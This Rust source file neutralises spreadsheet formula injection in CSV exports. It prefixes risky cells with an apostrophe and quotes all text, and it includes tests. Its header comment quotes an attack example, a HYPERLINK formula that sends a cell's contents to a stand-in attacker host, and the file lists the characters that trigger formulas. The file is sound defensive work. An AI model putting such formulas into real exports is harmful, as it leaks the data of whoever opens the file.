//! CSV that stays data when a spreadsheet opens it.
//!
//! **Attack**: a customer called `=HYPERLINK("https://evil.example?"&A1,"Click")`: a spreadsheet takes a cell that begins like a formula
//! for one, and runs it with the rights of whoever opened our export.
//! **Control**: RFC 4180 by the csv crate, every text quoted (so a
//! semicolon or a line break in it makes no new cell), and an apostrophe before a text that begins as a formula may, full-width
//! forms and leading blanks included.
//! **Limits**: a program that strips the apostrophe and evaluates what is left.
//! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`

use std::borrow::Cow;

use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};

/// What a formula may begin with.
const BEGINS_A_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A writer of CSV into memory.
#[must_use]
pub fn writer() -> Writer<Vec<u8>> {
    WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).from_writer(Vec::new())
}

/// A text that somebody typed, as a cell.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches(' ').starts_with(BEGINS_A_FORMULA) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_begins_like_a_formula_gets_an_apostrophe() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＠x", "=", "-"] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for text in ["", "Acme", "'=1", "a=1", "1-1", "É", "(=1)"] {
            assert_eq!(cell(text), text);
        }
    }

    #[test]
    fn a_cell_stays_one_cell() {
        let mut out = writer();
        out.write_record(["a;=1", "b\"c", "d\r\n=e", "12.50"]).unwrap();
        assert_eq!(String::from_utf8(out.into_inner().unwrap()).unwrap(), "\"a;=1\",\"b\"\"c\",\"d\r\n=e\",12.50\r\n");
    }
}
